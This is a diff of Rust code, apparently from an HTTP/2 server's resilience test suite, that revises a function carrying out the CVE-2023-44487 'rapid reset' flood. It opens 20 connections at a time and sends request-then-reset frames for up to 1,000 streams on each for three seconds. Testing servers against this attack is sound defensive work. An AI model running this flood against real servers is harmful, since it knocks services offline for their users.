@@ -79,16 +79,17 @@ pub(super) fn rapid_reset_reconnect(target: &Target) -> io::Result<Outcome> {
     )
 }
 
-/// CVE-2023-44487 for paths that nobody asked for before, on 20 connections at a time that are closed right after, for three
-/// seconds: files that are looked for are not to be waited for by others, nor kept for who is gone.
+/// CVE-2023-44487 for ever new paths, half of which the connection before asked for too, on 20 connections at a time that are
+/// closed right after, for three seconds: files that are looked for are not to be waited for by others, nor kept for who is
+/// gone.
 pub(super) fn rapid_reset_paths(target: &Target) -> io::Result<Outcome> {
     let until = Instant::now() + Duration::from_secs(3);
-    let (mut frames, mut paths) = (0, 0..);
+    let (mut frames, mut first) = (0, 0_u64);
     while Instant::now() < until {
         let peers = (0..20).map(|_| Peer::connect(target.http));
         for mut peer in peers.collect::<Result<Vec<_>, _>>()? {
-            for (id, path) in streams(1, 1_000).zip(&mut paths) {
-                let path: u64 = path;
+            first += 500;
+            for (id, path) in streams(1, 1_000).zip(first..) {
                 if !peer.send(&join(&[get(id, &format!("/none-{path}")), reset(id)])) {
                     break;
                 }
